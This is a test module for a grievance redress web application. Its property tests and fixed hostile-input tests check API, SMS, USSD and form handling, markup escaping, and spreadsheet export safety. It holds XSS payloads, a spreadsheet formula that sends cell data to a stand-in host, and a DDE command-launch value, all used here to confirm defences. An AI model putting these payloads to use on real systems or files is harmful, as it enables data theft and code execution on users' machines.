"""Hostile input as a suite (issue 11, item 3), beside the fixed lists of tests/http/test_bad_input.py:
arbitrary text from property tests (hypothesis) into the API, the SMS and USSD webhooks and the public form
is never a 500 and is kept as sent; markup a citizen sends is shown escaped on every page staff and
citizens read; a complaint text that a spreadsheet would take for a formula downloads as plain text."""
from __future__ import annotations

import csv
import io
import itertools
import re
from urllib.parse import urlencode

import openpyxl
import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, given, settings, strategies as st

import builders
from budget import examples
from builders import BARIA
from grs.extensions import db
from grs.models import Grievance, InboundMessage

pytestmark = pytest.mark.both_backends  # what is stored, and how it reads back, is each database's

AT_URL = "/hooks/sms/africastalking?key=at-test-key"
USSD_URL = "/hooks/ussd/africastalking?key=at-test-key"
FORM = "application/x-www-form-urlencoded"
MARKUP = '<script>alert("x")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'

# Any text a person or a broken phone may send: every plane, controls, right-to-left marks, long runs.
TEXT = st.text(st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=600)
_IDS = itertools.count()
# Each example is a whole request (a lodge, an SMS, a USSD step): 25 in CI, 10 here.
SETTINGS = settings(max_examples=examples(25, floor=10), deadline=None, suppress_health_check=list(HealthCheck))


def _lodge_api(client, headers, description: str, name: str = "Rahima"):
    return client.post("/api/v1/grievances", headers=headers, json={
        "channel": "api", "programme": "OAA", "category": "payment", "area": BARIA, "description": description,
        "complainant": {"name": name, "phone": "01712345678"}})


# ---------------------------------------------------------------- property tests: never a 500, kept as sent


@SETTINGS
@given(text=TEXT)
def test_any_text_lodged_through_the_api_is_kept_as_sent_or_refused_with_a_message(app, client, auth, world,
                                                                                   text):
    r = _lodge_api(client, auth("operator"), text)
    assert r.status_code in (201, 400, 422), (r.status_code, text)
    body = r.get_json()
    if r.status_code == 201:
        got = client.get(f"/api/v1/grievances/{body['tracking_code']}", headers=auth("operator")).get_json()
        assert got["description"] == text.strip()
    else:
        assert body["error"]["message"] and (body["error"].get("fields") or r.status_code == 400)


@SETTINGS
@given(text=TEXT)
def test_any_sms_text_is_answered_and_recorded_whole(app, client, world, text):
    msg_id = f"ATX-hyp-{next(_IDS)}"  # (the examples share one database: a repeated id is a resent SMS)
    body = urlencode({"from": "+8801712345678", "to": "21356", "text": text, "date": "2026-03-01 10:00:00",
                      "id": msg_id, "linkId": ""})
    r = client.post(AT_URL, data=body, content_type=FORM)
    assert r.status_code in (200, 400), (r.status_code, text)
    if r.status_code == 200:
        with app.app_context():
            stored = db.session.scalar(sa.select(InboundMessage.text)
                                       .where(InboundMessage.provider_message_id == msg_id))
        assert stored == text


@SETTINGS
@given(text=st.text(st.sampled_from("0123456789*#abc\x00 ৳১২"), max_size=80))
def test_any_ussd_input_gets_a_screen(client, world, text):
    r = client.post(USSD_URL, data={"sessionId": f"hyp-{next(_IDS)}", "serviceCode": "*123#",
                                    "phoneNumber": "+8801712345678", "networkCode": "47001", "text": text})
    assert r.status_code in (200, 400), (r.status_code, text)
    if r.status_code == 200:
        assert r.get_data(as_text=True).startswith(("CON ", "END "))


@SETTINGS
@given(description=TEXT, name=st.text(max_size=300))
def test_any_text_in_the_public_form_gives_a_receipt_or_the_form_back(client, world, description, name):
    page = client.get("/grievances/new").get_data(as_text=True)
    token = re.search(r'name="token" type="hidden" value="([0-9a-f]{32})"', page).group(1)
    r = client.post("/grievances/new", data={
        "programme": "OAA", "category": "payment", "description": description, "name": name,
        "phone": "01712345678", "token": token, "area_1": "BD-DIV-6", "area_2": "BD-DIS-41",
        "area_3": "BD-UPZ-320", "area_4": BARIA})
    assert r.status_code in (303, 200, 400, 422), (r.status_code, description, name)


# ---------------------------------------------------------------- stored markup


def test_markup_a_citizen_sends_is_shown_escaped_wherever_it_is_read(app, client, client_as, auth, world):
    r = _lodge_api(client, auth("operator"), f"Not paid. {MARKUP}", name=MARKUP)
    assert r.status_code == 201, r.get_json()
    code = r.get_json()["tracking_code"]
    sms = urlencode({"from": "+8801799999999", "to": "21356", "text": f"{MARKUP} Baria union", "id": "ATX-mk",
                     "date": "2026-03-01 10:00:00", "linkId": ""})
    assert client.post(AT_URL, data=sms, content_type=FORM).status_code == 200
    with app.app_context():
        sms_code = db.session.scalar(sa.select(Grievance.tracking_code).where(Grievance.channel == "sms"))
    officer, operator, admin = client_as("officer_baria"), client_as("operator"), client_as("admin")
    pages = [officer.get(f"/cases/{code}"), officer.get(f"/cases/{sms_code}"), officer.get("/cases/"),
             operator.get(f"/cases/{code}"), operator.get("/operator/?phone=01712345678"),
             admin.get("/admin/messages"), client.get(f"/track?code={code}"), client.get(f"/track/{code}")]
    for page in pages:
        text = page.get_data(as_text=True)
        assert page.status_code < 500
        assert "<script>alert" not in text and "<img src=x" not in text, page.request.path
    case = pages[0].get_data(as_text=True)
    assert "&lt;script&gt;alert" in case  # shown, as text


# ---------------------------------------------------------------- spreadsheets


def test_a_complaint_that_looks_like_a_formula_downloads_as_plain_text(app, client, auth, world):
    headers = auth("admin")
    r = _lodge_api(client, headers, FORMULA, name="@SUM(1+1)*cmd|' /C calc'!A0")
    assert r.status_code == 201, r.get_json()
    rows = list(csv.DictReader(io.StringIO(client.get("/api/v1/grievances?format=csv", headers=headers)
                                           .get_data(as_text=True))))
    (row,) = [x for x in rows if x.get("description", "").endswith('"Click")')]
    assert row["description"] == "'" + FORMULA
    assert row["complainant_name"].startswith("'@")
    assert row["complainant_phone"] == "+8801712345678"  # a phone is a number with a sign, left alone
    wb = openpyxl.load_workbook(io.BytesIO(client.get("/api/v1/grievances?format=xlsx", headers=headers)
                                           .get_data()))
    cells = [c for row in wb.active.iter_rows() for c in row if c.value == FORMULA]
    assert cells and all(c.data_type == "s" for c in cells)  # the text as typed, never a formula
    with app.app_context():
        assert builders.find(r.get_json()["tracking_code"]).description == FORMULA  # stored as sent
